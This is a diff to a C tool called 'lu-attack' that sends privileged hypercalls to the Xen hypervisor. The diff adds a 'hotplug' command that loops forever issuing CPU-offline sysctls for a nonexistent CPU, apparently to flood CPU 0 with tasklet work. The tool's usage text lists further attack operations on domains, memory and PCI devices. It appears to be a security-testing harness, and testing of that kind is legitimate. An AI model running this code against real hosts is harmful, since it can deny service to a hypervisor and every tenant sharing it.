@@ -11,6 +11,7 @@
  *	lu-attack claim PAGES DOMID
  *	lu-attack pin CPU	the vCPU that runs this overrides its affinity; -1: no more
  *	lu-attack nodes MASK DOMID	nodes for a domain's memory
+ *	lu-attack hotplug		call for what CPU 0 has to do, again and again
  *	lu-attack revoke FRAME DOMID	forbid a domain this frame of I/O memory
  *	lu-attack bar DEVICE	have Xen take the bank for the MSI-X table of a PCI device
  *				without a driver (0000:00:04.0); fails if it does
@@ -64,6 +65,9 @@
 #define SCHEDOP_PIN_OVERRIDE	7
 
 #define SYSCTL_TBUF		2
+#define SYSCTL_CPU_HOTPLUG	11
+#define HOTPLUG_OFFLINE		1
+#define NO_CPU			9999
 #define TBUF_SET_SIZE		3
 #define TBUF_ENABLE		4
 #define TBUF_DISABLE		5
@@ -155,6 +159,12 @@ struct domctl {
 	};
 };
 
+struct hotplug {
+	uint32_t cmd, version;
+	uint32_t cpu, op;
+	uint8_t rest[128];
+};
+
 struct tbuf {
 	uint32_t cmd, version;
 	uint32_t op, pad;
@@ -193,6 +203,7 @@ static union {
 	struct domctl domctl;
 	struct tbuf tbuf;
 	int32_t pcpu;
+	struct hotplug hotplug;
 } arg;
 
 static uint64_t victim, extent[2];
@@ -503,6 +514,18 @@ static int revoke_io(uint64_t frame, uint16_t domid)
 	return domctl(DOMCTL_IOMEM_PERMISSION, domid) != 0;
 }
 
+/* There is no such CPU, but that is found out by a tasklet. */
+static void hotplug(void)
+{
+	for (;;) {
+		arg.hotplug.cmd = SYSCTL_CPU_HOTPLUG;
+		arg.hotplug.version = SYSCTL_VERSION;
+		arg.hotplug.cpu = NO_CPU;
+		arg.hotplug.op = HOTPLUG_OFFLINE;
+		xencall(HYPERVISOR_SYSCTL, (uintptr_t)&arg.hotplug, 0, 0, 0);
+	}
+}
+
 static int trace(int on)
 {
 	int op;
@@ -547,8 +570,10 @@ int main(int argc, char **argv)
 		return revoke_io(strtoul(argv[2], NULL, 0), atoi(argv[3]));
 	if (argc > 2 && !strcmp(what, "bar"))
 		return attack_bar(argv[2]);
+	if (!strcmp(what, "hotplug"))
+		hotplug();
 	fputs("usage: lu-attack bank | bar DEVICE | hvm|pv on|off [DOMID] | trace on|off |\n"
 	      "                 vnuma DOMID | logdirty on|off DOMID | claim PAGES DOMID | pin CPU |\n"
-	      "                 nodes MASK DOMID | revoke FRAME DOMID\n", stderr);
+	      "                 nodes MASK DOMID | hotplug | revoke FRAME DOMID\n", stderr);
 	return 2;
 }
